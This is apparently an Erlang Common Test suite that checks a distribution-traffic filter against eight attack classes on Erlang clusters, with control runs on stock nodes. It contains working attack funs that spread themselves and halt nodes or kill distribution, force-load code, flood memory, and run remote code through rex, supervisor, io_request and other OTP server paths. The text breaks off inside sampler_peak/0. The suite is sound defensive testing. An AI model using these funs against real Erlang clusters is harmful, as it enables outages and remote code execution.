%% The seven "Do NOT run" attacks of the ElixirConf 2023 talk on dist
%% filtering (Andrew Bennett, "Erlang Dist Filtering and the WhatsApp
%% Runtime System"), launched from a real stock OTP node (-proto_dist
%% inet_tcp) against ktls_filter nodes with the DEFAULT policy.
%%
%% For each attack the suite asserts that the target is alive, that none of
%% the attacker's code ran there (every attack fun first writes a marker
%% file named after the node it runs on; modules, children, ETS... are
%% checked where the attack would change them), that the dist connection is
%% the same one as before, that memory stayed bounded, that the caller got
%% an error at once instead of hanging, and that a legitimate workload on
%% the same connection still works. A control run shows that the same attack
%% does succeed against a stock inet_tcp node or with the filter's break
%% glass, so every check can fail.
-module(ktls_attack_SUITE).

-include_lib("common_test/include/ct.hrl").
-include_lib("stdlib/include/assert.hrl").

-export([all/0, suite/0, init_per_testcase/2, end_per_testcase/2]).
-export([recursive_halt/1, recursive_dist_shutdown/1, flood/1, forced_code_load/1,
         rex_cast/1, supervisor_start_child/1, io_request_mfa/1, otp_server_backdoors/1]).
%% run on the nodes
-export([setup_node/0, mark/2, legit_workload/1, pg_member/0, bounded/2, try_erpc/4,
         erpc_attacks/3, halt_all_fun/1, shutdown_dist_fun/1, load_code_fun/3,
         multicast_fun/3, flood_send/2, flood_calls/2, start_sampler/0, sampler_peak/0, vm_hwm/0,
         code_server_load/3, rex_attacks/3, start_child_attacks/3, io_attacks/3,
         io_legit/1, backdoors/4, disconnects/1, third_node_io_request/3]).

-define(FAST_MS, 5000).
-define(MIB, (1024 * 1024)).
-define(GLOBAL, ["-kernel", "connect_all", "true"]).

suite() -> [{timetrap, {minutes, 3}}].

all() ->
    [recursive_halt, recursive_dist_shutdown, flood, forced_code_load, rex_cast,
     supervisor_start_child, io_request_mfa, otp_server_backdoors].

init_per_testcase(TC, Config) ->
    Dir = filename:join(?config(priv_dir, Config), atom_to_list(TC)),
    ok = filelib:ensure_dir(filename:join(Dir, "x")),
    [{marker_dir, Dir} | Config].

end_per_testcase(_TC, _Config) ->
    ktls_ct_nodes:stop_tracked().

%% ------------------------------------------------------------------
%% Attacks
%% ------------------------------------------------------------------

%% 1. Recursively halt all nodes: erpc:multicast(nodes(), erlang, apply,
%% [F, [F]]) where F spreads itself the same way and then halts. Two
%% ktls_filter targets connected to each other and to the attacker.
recursive_halt(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T1, N1}, {T2, N2}], {A, NA}} = cluster(2),
    Before = conn_ids([{T1, N1}, {T2, N2}], NA),
    %% erpc:multicast: no answer expected, nothing may run
    ok = call(A, multicast_fun, [halt_all_fun, Dir, [N1, N2]]),
    %% the same through erpc:multicall, erpc:call, spawn and spawn_monitor of
    %% a fun and rpc:call of erlang:apply/2: each refused, each fast
    Errors = call(A, erpc_attacks, [halt_all_fun, Dir, [N1, N2]]),
    ct:pal("erpc attacks: ~p", [Errors]),
    check_erpc_refused(Errors, 2),
    timer:sleep(300),
    [healthy(T, N, A, NA, Before) || {T, N} <- [{T1, N1}, {T2, N2}]],
    ?assertEqual([], markers(Dir)),
    %% Control: T2 with break glass runs the fun: it halts and spreads it
    %% to the attacker (stock, unfiltered), which halts too; T1 refuses it
    %% from both and stays up.
    ok = ktls_ct_nodes:call(T2, ktls_filter, config_set, [deep_packet_inspection, false]),
    ok = call(A, multicast_fun, [halt_all_fun, Dir, [N2]]),
    ok = ktls_ct_nodes:wait_until(fun() -> down(T2) andalso down(A) end, 10000),
    ?assert(marked(Dir, N2)),
    ?assert(marked(Dir, NA)),
    ?assertNot(marked(Dir, N1)),
    ?assertEqual(N1, ktls_ct_nodes:call(T1, erlang, node, [])),
    ?assert(refused(T1) >= 4).

%% 2. Recursively shut down dist: the same spreading fun, but it runs
%% supervisor:terminate_child(kernel_sup, net_sup) (and delete_child); also
%% asked for directly, through erpc and as gen_server calls to kernel_sup.
recursive_dist_shutdown(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T1, N1}, {T2, N2}], {A, NA}} = cluster(2),
    Before = conn_ids([{T1, N1}, {T2, N2}], NA),
    ok = call(A, multicast_fun, [shutdown_dist_fun, Dir, [N1, N2]]),
    check_erpc_refused(call(A, erpc_attacks, [shutdown_dist_fun, Dir, [N1, N2]]), 2),
    ?assertEqual({exit, {exception, unauthorized}},
                 call(A, try_erpc, [N1, supervisor, terminate_child, [kernel_sup, net_sup]])),
    %% supervisor:terminate_child({kernel_sup, Node}, net_sup): a gen_server
    %% call with timeout infinity; the filter answers it
    ?assertMatch({ok, {error, unauthorized}},
                 call(A, bounded, [fun() -> supervisor:terminate_child({kernel_sup, N1}, net_sup)
                                   end, ?FAST_MS])),
    ?assertMatch({ok, {error, unauthorized}},
                 call(A, bounded, [fun() -> supervisor:delete_child({kernel_sup, N2}, net_sup)
                                   end, ?FAST_MS])),
    timer:sleep(300),
    [begin
         healthy(T, N, A, NA, Before),
         ?assert(is_pid(child_pid(T, kernel_sup, net_sup))),
         ?assert(ktls_ct_nodes:call(T, erlang, is_alive, []))
     end || {T, N} <- [{T1, N1}, {T2, N2}]],
    ?assertEqual([], markers(Dir)),
    %% Control: with break glass T2 runs it and loses dist; T1 keeps it.
    ok = ktls_ct_nodes:call(T2, ktls_filter, config_set, [deep_packet_inspection, false]),
    ok = call(A, multicast_fun, [shutdown_dist_fun, Dir, [N2]]),
    ok = ktls_ct_nodes:wait_until(
           fun() -> not ktls_ct_nodes:call(T2, erlang, is_alive, []) end, 10000),
    ?assert(marked(Dir, N2)),
    ?assertEqual(undefined, child_pid(T2, kernel_sup, net_sup)),
    ?assertNot(marked(Dir, N1)),
    ?assert(ktls_ct_nodes:call(T1, erlang, is_alive, [])),
    ?assert(is_pid(child_pid(T1, kernel_sup, net_sup))).

%% 3. Flood: one 512 MiB message (8 x the same 64 MiB binary) to an
%% application process. The filter drops it while it arrives (over
%% max_message_size, default 128 MiB); the target's memory stays far below
%% the message size. Control: a stock node takes the whole message in.
flood(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    ok = call(T, start_sampler, []),
    ok = call(S, start_sampler, []),
    TooLarge0 = maps:get(too_large, world(T)),
    Ms = call(A, flood_send, [NT, 8]),
    ok = ktls_ct_nodes:wait_until(fun() -> maps:get(too_large, world(T)) > TooLarge0 end, 60000),
    Peak = call(T, sampler_peak, []),
    Hwm = call(T, vm_hwm, []),
    ct:pal("flood: sent in ~p ms; target erlang:memory(total) peak ~p MiB, VmHWM ~p MiB",
           [Ms, Peak div ?MIB, Hwm div ?MIB]),
    %% The sequence claims more than max_message_size: given up at its
    %% first fragment, nothing is buffered (15 MiB peak measured; 395 MiB
    %% when the buffer grew to the limit and doubled past it).
    ?assert(Peak < 64 * ?MIB),
    ?assert(Hwm < 256 * ?MIB),
    healthy(T, NT, A, NA, Before),
    %% The same 512 MiB as the argument of an erpc call and of a gen_server
    %% call (both timeout infinity): given up for its size too, and the
    %% caller is told instead of waiting forever.
    Calls = call(A, flood_calls, [NT, 8]),
    ct:pal("flood calls: ~p", [Calls]),
    ?assertMatch(#{erpc := {ok, {exit, {exception, unauthorized}}},
                   gen_call := {ok, {error, unauthorized}}}, Calls),
    ?assertEqual(TooLarge0 + 3, maps:get(too_large, world(T))),
    ?assert(call(T, sampler_peak, []) < 64 * ?MIB),
    ?assert(call(T, vm_hwm, []) < 256 * ?MIB),
    healthy(T, NT, A, NA, Before),
    %% Control: the stock node holds the whole message.
    _ = call(A, flood_send, [NS, 8]),
    ok = ktls_ct_nodes:wait_until(fun() -> call(S, sampler_peak, []) > 512 * ?MIB end, 60000),
    ok = call(A, legit_workload, [NS]).

%% 4. Forced code loading: code:load_binary/3 of a module the target does
%% not have, through erpc, rpc, the talk's spreading fun, and a direct
%% code_server request. Control: with break glass the module loads.
forced_code_load(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    Before = conn_ids([{T, NT}], NA),
    {Mod, Bin} = evil_module(),
    File = atom_to_list(Mod) ++ ".erl",
    Args = [Mod, File, Bin],
    ?assertEqual({exit, {exception, unauthorized}}, call(A, try_erpc, [NT, code, load_binary, Args])),
    ?assertEqual({ok, {badrpc, {'EXIT', unauthorized}}},
                 call(A, bounded, [fun() -> rpc:call(NT, code, load_binary, Args) end, ?FAST_MS])),
    ok = call(A, multicast_fun, [{load_code_fun, Mod, Bin}, Dir, [NT]]),
    check_erpc_refused(call(A, erpc_attacks, [{load_code_fun, Mod, Bin}, Dir, [NT]]), 1),
    %% code_server's own protocol has no error reply: no answer at all
    ?assertEqual(no_reply, call(A, code_server_load, [NT, Mod, Bin])),
    timer:sleep(300),
    ?assertEqual(false, ktls_ct_nodes:call(T, code, is_loaded, [Mod])),
    ?assertEqual([], markers(Dir)),
    healthy(T, NT, A, NA, Before),
    %% Control: break glass.
    ok = ktls_ct_nodes:call(T, ktls_filter, config_set, [deep_packet_inspection, false]),
    ?assertEqual({ok, {module, Mod}}, call(A, try_erpc, [NT, code, load_binary, Args])),
    ?assertMatch({file, _}, ktls_ct_nodes:call(T, code, is_loaded, [Mod])).

%% 5. RCE without spawn request: {'$gen_cast', {cast, M, F, A, GL}} to rex
%% (old-style rpc:cast), by name and by pid; the call forms too
%% (rpc:block_call, a raw gen_server call to rex), and rpc:call/rpc:cast
%% of erlang:apply. Control: the same cast to a stock node runs the fun.
rex_cast(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    RexPid = ktls_ct_nodes:call(T, erlang, whereis, [rex]),
    Results = call(A, rex_attacks, [Dir, NT, RexPid]),
    ct:pal("rex attacks: ~p", [Results]),
    #{rpc_call := {ok, {badrpc, {'EXIT', unauthorized}}},
      rpc_block_call := {ok, {badrpc, {'EXIT', unauthorized}}},
      gen_call_rex := {ok, {badrpc, {'EXIT', unauthorized}}},
      gen_call_rex_pid := {ok, {badrpc, {'EXIT', unauthorized}}},
      rpc_cast := true} = Results,
    timer:sleep(500),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(false, ktls_ct_nodes:call(T, os, getenv, ["KTLS_ATTACK"])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    RexS = ktls_ct_nodes:call(S, erlang, whereis, [rex]),
    _ = call(A, rex_attacks, [Dir, NS, RexS]),
    ok = ktls_ct_nodes:wait_until(fun() -> marked(Dir, NS) end, 5000),
    ?assertEqual("rex", ktls_ct_nodes:call(S, os, getenv, ["KTLS_ATTACK"])).

%% 6. RCE without spawn request or rex: supervisor:start_child({kernel_sup,
%% Node}, ChildSpec) whose start MFA is erlang:apply of a fun; by name, by
%% kernel_sup's pid, and an old-style child spec tuple to another
%% supervisor's pid. The caller gets {error, unauthorized} at once.
%% Control: a stock node starts the child.
supervisor_start_child(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    Children0 = ktls_ct_nodes:call(T, supervisor, count_children, [kernel_sup]),
    KSup = ktls_ct_nodes:call(T, erlang, whereis, [kernel_sup]),
    SafeSup = ktls_ct_nodes:call(T, erlang, whereis, [kernel_safe_sup]),
    Results = call(A, start_child_attacks, [Dir, NT, [KSup, SafeSup]]),
    ct:pal("start_child attacks: ~p", [Results]),
    [?assertEqual({ok, {error, unauthorized}}, R) || R <- Results],
    ?assertEqual(4, length(Results)),
    timer:sleep(300),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(Children0, ktls_ct_nodes:call(T, supervisor, count_children, [kernel_sup])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    KSupS = ktls_ct_nodes:call(S, erlang, whereis, [kernel_sup]),
    [{ok, {ok, undefined}} | _] = call(A, start_child_attacks, [Dir, NS, [KSupS]]),
    ?assert(marked(Dir, NS)).

%% 7. RCE without spawn request, rex or supervisor: {io_request, From, Ref,
%% {put_chars, unicode, M, F, A}} to standard_error, to user and to a group
%% leader process, plus the same through erl_scan's reserved_word_fun
%% option. The sender gets an io_reply error. io:format to a remote group
%% leader still works. Control: a stock node runs the fun.
io_request_mfa(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    Io = io_server(T),
    Results = call(A, io_attacks, [Dir, NT, [standard_error, user, Io]]),
    ct:pal("io attacks: ~p", [Results]),
    ?assertEqual(6, length(Results)),
    [?assertEqual({error, unauthorized}, R) || R <- Results],
    %% The caller named in a request may be on a third node (here the stock
    %% one): the filter must not answer it, because the VM would send the
    %% answer's spawn reply to the attacker, whose VM takes a reply to a pid
    %% not its own for an invalid message and drops the connection (and
    %% global then drops others). healthy/5 checks the connection is the same.
    ok = call(A, third_node_io_request, [Dir, NT, NS]),
    timer:sleep(300),
    ?assertEqual([], markers(Dir)),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node, its standard_error and a group leader there.
    IoS = io_server(S),
    _ = call(A, io_attacks, [Dir, NS, [standard_error, IoS]]),
    ok = ktls_ct_nodes:wait_until(fun() -> marked(Dir, NS) end, 5000).

%% Beyond the talk: OTP servers that run code, relay messages to local
%% names or drop connections for any caller: net_kernel's spawn call of
%% old nodes and its registered_send relay, rex's {Node, {call, ...}} form
%% and its sbcast/send relays, global's registrar and name clash resolver
%% funs, sys:replace_state/2 and sys:suspend/1, an io server's expand_fun,
%% a log event's report_cb, gen_event:add_handler/3 (Handler:init/1 of any
%% module), and net_kernel/global disconnects. Control: a stock node does
%% all of it.
otp_server_backdoors(Config) ->
    Dir = ?config(marker_dir, Config),
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    {Mod, Bin} = evil_module(),
    R = call(A, backdoors, [Dir, NT, Mod, Bin]),
    ct:pal("backdoors: ~p", [R]),
    #{net_kernel_spawn := {ok, {error, unauthorized}},
      relay_start_child := {error, unauthorized},
      relay_code_server := no_reply,
      global_registrar := {ok, {error, unauthorized}},
      global_resolver := {ok, {error, unauthorized}},
      replace_state := {exit, {unauthorized, _}},
      sys_suspend := {ok, {error, unauthorized}},
      io_setopts := {ok, {error, unauthorized}},
      add_handler := {ok, {error, unauthorized}}} = R,
    ?assertEqual([], ktls_ct_nodes:call(T, gen_event, which_handlers, [ktls_attack_events])),
    ?assertEqual(#{net_kernel_disconnect => {ok, {error, unauthorized}},
                   global_disconnect => {ok, {error, unauthorized}}},
                 call(A, disconnects, [NT])),
    timer:sleep(500),
    ?assertEqual([], markers(Dir)),
    ?assertEqual(false, ktls_ct_nodes:call(T, code, is_loaded, [Mod])),
    healthy(T, NT, A, NA, Before),
    %% Control: stock node.
    RS = call(A, backdoors, [Dir, NS, Mod, Bin]),
    ct:pal("backdoors on a stock node: ~p", [RS]),
    ?assertMatch(#{net_kernel_spawn := {ok, Pid}} when is_pid(Pid), RS),
    ?assertMatch(#{relay_code_server := {module, Mod}, sys_suspend := {ok, ok},
                   io_setopts := {ok, {error, request}}, add_handler := {ok, ok}}, RS),
    ?assertMatch({file, _}, ktls_ct_nodes:call(S, code, is_loaded, [Mod])),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   Ms = [M || M <- markers(Dir), lists:suffix("@" ++ atom_to_list(NS), M)],
                   length(Ms) >= 8
           end, 5000),
    %% the disconnects last: a stock node loses the attacker's connection,
    %% or all of kernel (global_name_server's disconnect can crash it, and
    %% kernel_sup restarts nothing)
    _ = call(A, disconnects, [NS]),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   case catch ktls_ct_nodes:call(S, erlang, nodes, [], 2000) of
                       Nodes when is_list(Nodes) -> not lists:member(NA, Nodes);
                       _ -> true
                   end
           end, 5000).

%% ------------------------------------------------------------------
%% Checks (test runner side)
%% ------------------------------------------------------------------

%% Alive, still connected over the same dist channel, memory bounded, and
%% the legitimate workload works from the attacker over that channel.
healthy(T, NT, A, NA, Before) ->
    ?assertEqual(NT, ktls_ct_nodes:call(T, erlang, node, [])),
    ?assert(lists:member(NA, ktls_ct_nodes:call(T, erlang, nodes, []))),
    ?assertEqual(maps:get(NT, Before), conn_id(T, NA)),
    ?assert(ktls_ct_nodes:call(T, erlang, memory, [total]) < 200 * ?MIB),
    ok = call(A, legit_workload, [NT]),
    Member = call(A, pg_member, []),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   lists:member(Member, ktls_ct_nodes:call(T, pg, get_members,
                                                           [ktls_attack_pg, legit]))
           end, 5000),
    ok = ktls_ct_nodes:wait_until(
           fun() -> ktls_ct_nodes:call(T, global, whereis_name, [{ktls_attack, NA}]) =:= Member
           end, 5000),
    ?assertEqual(maps:get(NT, Before), conn_id(T, NA)).

%% Each erpc-style attack on each node: refused with an error, fast.
check_erpc_refused(#{multicall := MC, call := Calls, rpc_call := Rpcs,
                     spawn_monitor := Downs, spawn_link := Exits}, N) ->
    ?assertEqual(lists:duplicate(N, {exit, {exception, unauthorized}}), MC),
    ?assertEqual(lists:duplicate(N, {exit, {exception, unauthorized}}), Calls),
    ?assertEqual(lists:duplicate(N, {badrpc, {'EXIT', unauthorized}}), Rpcs),
    ?assertEqual(lists:duplicate(N, unauthorized), Downs),
    ?assertEqual(lists:duplicate(N, unauthorized), Exits).

conn_ids(Targets, NA) ->
    maps:from_list([{N, conn_id(T, NA)} || {T, N} <- Targets]).

conn_id(T, NA) ->
    #{id := Id} = ktls_ct_nodes:call(T, ktls_filter, channel_inspect, [NA]),
    Id.

world(T) -> ktls_ct_nodes:call(T, ktls_filter, world_stats_get, []).

refused(T) -> maps:get(spawn_requests_refused, world(T)).

child_pid(T, Sup, Id) ->
    case lists:keyfind(Id, 1, ktls_ct_nodes:call(T, supervisor, which_children, [Sup])) of
        {Id, Pid, _, _} when is_pid(Pid) -> Pid;
        _ -> undefined
    end.

io_server(P) ->
    ktls_ct_nodes:call(P, erlang, whereis, [ktls_attack_io]).

marked(Dir, Node) ->
    lists:any(fun(F) -> lists:suffix("@" ++ atom_to_list(Node), F) end, markers(Dir)).

markers(Dir) ->
    {ok, Fs} = file:list_dir(Dir),
    lists:sort(Fs).

down(Peer) ->
    case catch peer:get_state(Peer) of
        running -> false;
        _ -> true
    end.

%% A module no node has: the code the attacker wants loaded.
evil_module() ->
    Forms = [{attribute, 1, module, ktls_attack_evil},
             {attribute, 2, export, [{evil, 0}]},
             {function, 3, evil, 0, [{clause, 3, [], [], [{atom, 3, loaded}]}]}],
    {ok, Mod, Bin} = compile:forms(Forms, []),
    {Mod, Bin}.

%% ------------------------------------------------------------------
%% Nodes
%% ------------------------------------------------------------------

%% N ktls_filter targets (default policy) connected to each other, and a
%% stock attacker connected to each. global keeps names in sync between
%% them (it does nothing under the "-connect_all false" of ktls_ct_nodes,
%% the application parameter overrides that).
cluster(N) ->
    Targets = [node_of(name("target"), ktls, ?GLOBAL) || _ <- lists:seq(1, N)],
    [connect(P, Node) || {P, _} <- Targets, {_, Node} <- Targets, P =/= first(Targets, Node)],
    A = {AP, _} = node_of(name("attacker"), inet_tcp, ?GLOBAL),
    [connect(AP, Node) || {_, Node} <- Targets],
    {Targets, A}.

first(Targets, Node) ->
    {P, Node} = lists:keyfind(Node, 2, Targets),
    P.

stock() -> node_of(name("stock"), inet_tcp, []).

%% Node names other suites running at the same time on this machine do not
%% use (the OS pid of the test runner in them).
name(Role) -> ktls_ct_nodes:unique("atk_" ++ Role ++ "_" ++ os:getpid()).

node_of(Name, Carrier, Extra) ->
    {P, N} = ktls_ct_nodes:start(Name, Carrier, Extra),
    ok = ktls_ct_nodes:track(P),
    ok = call(P, setup_node, []),
    {P, N}.

connect(P, Node) ->
    true = ktls_ct_nodes:call(P, net_kernel, connect_node, [Node]).

call(P, F, Args) -> ktls_ct_nodes:call(P, ?MODULE, F, Args).

%% ------------------------------------------------------------------
%% On the nodes
%% ------------------------------------------------------------------

%% @doc Application processes every node of the suite runs: the server, an
%% io server and a pg scope.
-spec setup_node() -> ok.
setup_node() ->
    ok = ktls_attack_server:start(),
    _ = ktls_attack_io:start(),
    {ok, _} = pg:start(ktls_attack_pg),
    {ok, _} = gen_event:start({local, ktls_attack_events}),
    ok = logger:add_handler(ktls_attack_log, ktls_attack_log_h, #{}).

%% @doc The side effect every attack fun has first: a file named after the
%% node it runs on.
-spec mark(file:filename(), atom()) -> ok.
mark(Dir, What) ->
    ok = file:write_file(filename:join(Dir, atom_to_list(What) ++ "@" ++ atom_to_list(node())),
                         <<>>).

%% @doc What ordinary OTP traffic from this node to Node does: ping, gen_server
%% calls, casts and replies through aliases, monitors, links and exits of
%% processes there, messages carrying pids, references and funs, a message
%% to a pid, erpc and rpc of an allowed MFA, io:format to a group leader
%% there, log events for logger_proxy there. Crashes on the first thing
%% that does not work.
-spec legit_workload(node()) -> ok.
legit_workload(Node) ->
    {ok, R} = bounded(fun() -> legit(Node) end, 20000),
    R.

legit(Node) ->
    pong = net_adm:ping(Node),
    Server = {ktls_attack_server, Node},
    Data = {self(), make_ref(), fun() -> local_fun end, fun lists:reverse/1, <<"bin">>,
            #{key => [1.5, "str", {tuple}]}},
    Data = gen_server:call(Server, {echo, Data}, 5000),
    ok = gen_server:cast(Server, {put, data, Data}),
    Data = gen_server:call(Server, {get, data}, 5000),
    %% an application request that looks like start_child but names no code
    #{id := pool} = gen_server:call(Server, {start_child, #{id => pool}}, 5000),
    %% a message to a pid and the answer to ours
    ServerPid = gen_server:call(Server, self_pid, 5000),
    Ref = make_ref(),
    ServerPid ! {ping, self(), Ref},
    receive {pong, Ref} -> ok after 5000 -> error(no_pong) end,
    %% monitors, links, exits
    process_flag(trap_exit, true),
    Child1 = gen_server:call(Server, spawn_child, 5000),
    M1 = monitor(process, Child1),
    true = link(Child1),
    Child1 ! {exit, {shutdown, legit}},
    receive {'DOWN', M1, process, Child1, {shutdown, legit}} -> ok after 5000 -> error(no_down) end,
    receive {'EXIT', Child1, {shutdown, legit}} -> ok after 5000 -> error(no_exit) end,
    Child2 = gen_server:call(Server, spawn_child, 5000),
    M2 = monitor(process, Child2),
    true = exit(Child2, kill),
    receive {'DOWN', M2, process, Child2, killed} -> ok after 5000 -> error(no_kill) end,
    Child3 = gen_server:call(Server, spawn_child, 5000),
    M3 = monitor(process, Child3),
    true = demonitor(M3, [flush]),
    Child3 ! {exit, normal},
    %% erpc and rpc of an allowed MFA
    Node = erpc:call(Node, erlang, node, [], 5000),
    Node = rpc:call(Node, erlang, node, [], 5000),
    %% io:format to a group leader there
    ok = io_legit(Node),
    %% log events of a process here whose group leader is there go to
    %% logger_proxy there, with OTP's report formatter as report_cb
    Io = gen_server:call(Server, {whereis, ktls_attack_io}, 5000),
    Tags = [make_ref(), make_ref()],
    spawn(fun() ->
                  group_leader(Io, self()),
                  logger:notice(#{ktls_legit => hd(Tags), empty => #{}}),
                  logger:notice(#{label => {ktls, legit}, report => [{ktls_legit, lists:last(Tags)}]},
                                #{report_cb => fun logger:format_otp_report/1})
          end),
    ok = ktls_ct_nodes:wait_until(
           fun() -> [gen_server:call(Server, {get, {logged, Tag}}) || Tag <- Tags] =:= [true, true]
           end, 5000),
    ok.

%% @doc io:format/3 and io:put_chars/2 to the io server on Node; checks the text
%% arrived.
-spec io_legit(node()) -> ok.
io_legit(Node) ->
    Io = gen_server:call({ktls_attack_server, Node}, {whereis, ktls_attack_io}, 5000),
    Tag = integer_to_list(erlang:unique_integer([positive])),
    ok = io:format(Io, "legit ~s ~p~n", [Tag, {fun() -> ok end, self()}]),
    ok = io:put_chars(Io, ["chars ", Tag]),
    %% what the shell asks its group leader for (an export fun of erl_scan
    %% in the options): reaches the io server, which does not read
    {error, request} =
        io:request(Io, {get_until, unicode, "1> ", erl_scan, tokens,
                        [{1, 1}, [text, {reserved_word_fun, fun erl_scan:reserved_word/1}]]}),
    Out = ktls_attack_io:output(Io),
    true = binary:match(Out, list_to_binary("legit " ++ Tag)) =/= nomatch,
    true = binary:match(Out, list_to_binary("chars " ++ Tag)) =/= nomatch,
    ok.

%% @doc A process of this node in pg group `legit' of scope ktls_attack_pg
%% and globally registered as {ktls_attack, node()} (started once).
-spec pg_member() -> pid().
pg_member() ->
    case whereis(ktls_attack_member) of
        undefined ->
            Parent = self(),
            Pid = spawn(fun() ->
                                true = register(ktls_attack_member, self()),
                                ok = pg:join(ktls_attack_pg, legit, self()),
                                yes = global:register_name({ktls_attack, node()}, self()),
                                Parent ! {joined, self()},
                                receive stop -> ok end
                        end),
            receive {joined, Pid} -> Pid after 5000 -> error(pg_join) end;
        Pid ->
            Pid
    end.

%% @doc Runs Fun in a fresh process: {ok, Result}, {exit, Reason} if it
%% failed, or hung if it took longer than Ms (then it is killed).
-spec bounded(fun(() -> term()), timeout()) -> {ok, term()} | {exit, term()} | hung.
bounded(Fun, Ms) ->
    {Pid, MRef} = spawn_monitor(fun() -> exit({done, Fun()}) end),
    receive
        {'DOWN', MRef, process, Pid, {done, R}} -> {ok, R};
        {'DOWN', MRef, process, Pid, Reason} -> {exit, Reason}
    after Ms ->
            exit(Pid, kill),
            hung
    end.

-spec try_erpc(node(), module(), atom(), list()) -> {ok, term()} | {atom(), term()}.
try_erpc(Node, M, F, A) ->
    try {ok, erpc:call(Node, M, F, A, ?FAST_MS)}
    catch Class:Reason -> {Class, Reason}
    end.

%% @doc The attack fun named by Which (see attack_fun/2), applied to itself.
-spec multicast_fun(atom() | tuple(), file:filename(), [node()]) -> ok.
multicast_fun(Which, Dir, Nodes) ->
    F = attack_fun(Which, Dir),
    erpc:multicast(Nodes, erlang, apply, [F, [F]]).

%% @doc The attack fun through every erpc-style way to run a fun remotely;
%% each must end fast with the caller told (timeout infinity: a dropped
%% request would hang, and bounded/2 reports that as hung).
-spec erpc_attacks(atom() | tuple(), file:filename(), [node()]) -> map().
erpc_attacks(Which, Dir, Nodes) ->
    F = attack_fun(Which, Dir),
    Fast = fun(G) ->
                   case bounded(G, ?FAST_MS) of
                       {ok, R} -> R;
                       Other -> Other
                   end
           end,
    #{multicall => Fast(fun() -> erpc:multicall(Nodes, erlang, apply, [F, [F]]) end),
      call => [Fast(fun() ->
                            try erpc:call(N, fun() -> F(F) end)
                            catch C:R -> {C, R}
                            end
                    end) || N <- Nodes],
      rpc_call => [Fast(fun() -> rpc:call(N, erlang, apply, [F, [F]]) end) || N <- Nodes],
      spawn_monitor => [Fast(fun() ->
                                     {P, M} = spawn_monitor(N, erlang, apply, [F, [F]]),
                                     receive {'DOWN', M, process, P, Why} -> Why end
                             end) || N <- Nodes],
      spawn_link => [Fast(fun() ->
                                  process_flag(trap_exit, true),
                                  P = spawn_link(N, fun() -> F(F) end),
                                  receive {'EXIT', P, Why} -> Why end
                          end) || N <- Nodes]}.

%% The talk's funs: each marks the node it runs on, spreads itself to every
%% node this one knows, then does its damage.
attack_fun(halt_all_fun, Dir) -> halt_all_fun(Dir);
attack_fun(shutdown_dist_fun, Dir) -> shutdown_dist_fun(Dir);
attack_fun({load_code_fun, Mod, Bin}, Dir) -> load_code_fun(Dir, Mod, Bin).

%% @doc Attack 1: halt every node.
-spec halt_all_fun(file:filename()) -> fun((fun()) -> no_return()).
halt_all_fun(Dir) ->
    fun(F) ->
            mark(Dir, halt_all),
            erpc:multicast(nodes(), erlang, apply, [F, [F]]),
            timer:sleep(200),
            erlang:halt(1)
    end.

%% @doc Attack 2: shut down dist on every node.
-spec shutdown_dist_fun(file:filename()) -> fun((fun()) -> term()).
shutdown_dist_fun(Dir) ->
    fun(F) ->
            mark(Dir, shutdown_dist),
            erpc:multicast(nodes(), erlang, apply, [F, [F]]),
            timer:sleep(200),
            _ = supervisor:terminate_child(kernel_sup, net_sup),
            supervisor:delete_child(kernel_sup, net_sup)
    end.

%% @doc Attack 4: load Mod on every node (once; the talk repeats it forever).
-spec load_code_fun(file:filename(), module(), binary()) -> fun((fun()) -> term()).
load_code_fun(Dir, Mod, Bin) ->
    fun(F) ->
            mark(Dir, load_code),
            {module, Mod} = code:load_binary(Mod, atom_to_list(Mod) ++ ".erl", Bin),
            erpc:multicast(nodes(), erlang, apply, [F, [F]])
    end.

%% @doc Attack 3: one message of N x one 64 MiB binary to the application
%% server on Node; returns the milliseconds the send took.
-spec flood_send(node(), pos_integer()) -> non_neg_integer().
flood_send(Node, N) ->
    Bin = binary:copy(<<$a>>, 64 * ?MIB),
    Msg = lists:duplicate(N, Bin),
    T0 = erlang:monotonic_time(millisecond),
    {ktls_attack_server, Node} ! {flood, Msg},
    erlang:monotonic_time(millisecond) - T0.

%% @doc Attack 3 as calls: N x one 64 MiB binary as the argument of an erpc
%% call and of a gen_server call to Node, one after the other.
-spec flood_calls(node(), pos_integer()) -> map().
flood_calls(Node, N) ->
    Msg = lists:duplicate(N, binary:copy(<<$a>>, 64 * ?MIB)),
    Erpc = bounded(fun() ->
                           try erpc:call(Node, erlang, length, [Msg], infinity)
                           catch C:R -> {C, R}
                           end
                   end, 60000),
    Call = bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, Msg}, infinity) end,
                   60000),
    #{erpc => Erpc, gen_call => Call}.

%% @doc Samples erlang:memory(total) every 5 ms, keeping the peak.
-spec start_sampler() -> ok.
start_sampler() ->
    Pid = spawn(fun() -> sample(0) end),
    true = register(ktls_attack_sampler, Pid),
    ok.

sample(Peak) ->
    receive
        {peak, From, Ref} -> From ! {Ref, Peak}, sample(Peak)
    after 5 ->
            sample(max(Peak, erlang:memory(total)))
    end.

-spec sampler_peak() -> non_neg_integer().
sampler_peak() ->
    Ref = make_ref(),
